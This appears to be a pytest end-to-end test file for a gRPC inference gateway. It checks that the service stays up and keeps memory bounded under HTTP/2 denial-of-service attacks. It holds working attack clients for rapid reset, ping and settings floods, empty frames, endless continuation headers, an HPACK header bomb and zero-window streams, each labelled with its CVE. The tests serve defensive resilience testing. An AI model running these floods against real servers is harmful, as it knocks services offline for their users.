"""Clients that attack HTTP/2 itself, and what a stream beside them and the gateway's memory feel of it.

gRPC's server defends itself; these say that it does as it is set up here. How much slower the stream becomes
is printed (pytest -s): on two shared cores the attacker's own process is most of it.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from pathlib import Path

import grpc
import pytest

from diptych.v1 import inference_pb2 as pb
from diptych.v1 import inference_pb2_grpc as rpc
from tests.end_to_end.public_api import frames
from tests.end_to_end.public_api.canary import Canary
from tests.end_to_end.stack import Stack
from tests.end_to_end.tiny_system import MODEL

STREAM = "/diptych.v1.InferenceService/StreamGenerate"
MUCH_KIB = 256 << 10  # more than the gateway may grow by
LONGEST_MS = 10_000.0


@pytest.fixture(scope="module", autouse=True)
def still_whole(stack: Stack) -> Iterator[None]:
    """The same processes afterwards, idle, and they answer."""
    before = stack.pids()
    yield
    assert stack.pids() == before
    stack.wait_idle()
    with grpc.insecure_channel(stack.address) as channel:
        good = pb.GenerateRequest(model=MODEL, text="a", stopping=pb.StoppingCriteria(max_tokens=2))
        assert rpc.InferenceServiceStub(channel).Generate(good, timeout=60).usage.completion_tokens == 2


def resident_kib(stack: Stack) -> int:
    status = Path(f"/proc/{stack.account['gateway']['pid']}/status").read_text()
    return int(status.partition("VmRSS:")[2].split()[0])


def rapid_reset(stack: Stack) -> None:
    """CVE-2023-44487: streams that are opened and reset at once, 20,000 of them."""
    with frames.connection(stack.address) as made:
        for batch in range(100):
            block = b""
            for number in range(200):
                stream = 2 * (batch * 200 + number) + 1
                block += frames.frame(
                    frames.HEADERS, frames.END_HEADERS, stream, frames.call(STREAM)
                ) + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
            if not frames.push(made, block):
                return


def ping_flood(stack: Stack) -> None:
    """CVE-2019-9512: pings whose answers are not read."""
    with frames.connection(stack.address) as made:
        pings = frames.frame(frames.PING, 0, 0, b"12345678") * 1000
        for _ in range(100):
            if not frames.push(made, pings):
                return


def settings_flood(stack: Stack) -> None:
    """CVE-2019-9515."""
    with frames.connection(stack.address) as made:
        for _ in range(100):
            if not frames.push(made, frames.settings(window=65_535) * 1000):
                return


def empty_frames(stack: Stack) -> None:
    """CVE-2019-9518: data frames without data, on one stream that never ends."""
    with frames.connection(stack.address) as made:
        opened = frames.frame(frames.HEADERS, frames.END_HEADERS, 1, frames.call(STREAM))
        frames.push(made, opened)
        for _ in range(100):
            if not frames.push(made, frames.frame(frames.DATA, 0, 1) * 1000):
                return


def endless_headers(stack: Stack) -> None:
    """CVE-2024-24549 and its like: continuation frames without an end, 16 MiB of them."""
    with frames.connection(stack.address) as made:
        frames.push(made, frames.frame(frames.HEADERS, 0, 1, frames.call(STREAM)))
        block = b"".join(frames.literal(b"x-%d" % number, b"v" * 100) for number in range(100))
        for _ in range(1500):
            if not frames.push(made, frames.frame(frames.CONTINUATION, 0, 1, block)):
                return


def header_bomb(stack: Stack) -> None:
    """CVE-2016-1544: one entry of the table, 4 KB, named 12,000 times in a frame: 48 MB. Ten frames."""
    with frames.connection(stack.address) as made:
        entry = frames.literal(b"x-bomb", b"v" * 4000, index=True)
        for number in range(10):
            block = frames.call(STREAM) + (entry if number == 0 else b"") + b"\xbe" * 12_000
            if not frames.push(made, frames.frame(frames.HEADERS, frames.END_HEADERS, 2 * number + 1, block)):
                return


def never_reading(stack: Stack) -> None:
    """Streams into a window of no bytes: sixteen answers that are not read, and then the client is gone."""
    wanted = pb.GenerateRequest(
        model=MODEL, text="a", stopping=pb.StoppingCriteria(max_tokens=500, ignore_eos=True)
    )
    with frames.connection(stack.address, window=0) as made:
        for number in range(16):
            stream = 2 * number + 1
            frames.push(made, frames.frame(frames.HEADERS, frames.END_HEADERS, stream, frames.call(STREAM)))
            data = frames.message(wanted.SerializeToString())
            frames.push(made, frames.frame(frames.DATA, frames.END_STREAM, stream, data))
        time.sleep(2)


ATTACKS = [
    rapid_reset,
    ping_flood,
    settings_flood,
    empty_frames,
    endless_headers,
    header_bomb,
    never_reading,
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_stream_goes_on_beside(stack: Stack, attack: Callable[[Stack], None]) -> None:
    with Canary(stack, MODEL) as alone:
        time.sleep(0.5)
    before = resident_kib(stack)
    with Canary(stack, MODEL) as beside:
        attack(stack)
    grown = resident_kib(stack) - before
    print(
        f"\n{attack.__name__}: ITL p99 {alone.p99_ms:.1f} ms alone, {beside.p99_ms:.1f} ms beside, "
        f"longest {beside.longest_ms:.0f} ms; the gateway grew by {grown / 1024:.0f} MiB"
    )
    assert beside.longest_ms < LONGEST_MS
    assert grown < MUCH_KIB


def test_garbage_instead_of_http2_is_hung_up_on(stack: Stack) -> None:
    for data in (b"\x00" * 100, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\x16\x03\x01\x02\x00\x01"):
        with frames.plain(stack.address) as made:
            frames.push(made, data * 50)
            assert frames.closed(made)


def test_metadata_at_its_limit_is_read_and_above_it_refused(stack: Stack) -> None:
    """16 KiB, each field counted with 32 bytes more (RFC 9113, 6.5.2)."""
    request = pb.GenerateRequest(model=MODEL, text="a", stopping=pb.StoppingCriteria(max_tokens=1))
    with grpc.insecure_channel(stack.address) as channel:
        stub = rpc.InferenceServiceStub(channel)
        assert stub.Generate(request, metadata=(("x-big", "x" * 15_000),), timeout=60)
        for size in (17_000, 65_536):
            with pytest.raises(grpc.RpcError) as caught:
                stub.Generate(request, metadata=(("x-big", "x" * size),), timeout=60)
            assert caught.value.code() is grpc.StatusCode.RESOURCE_EXHAUSTED
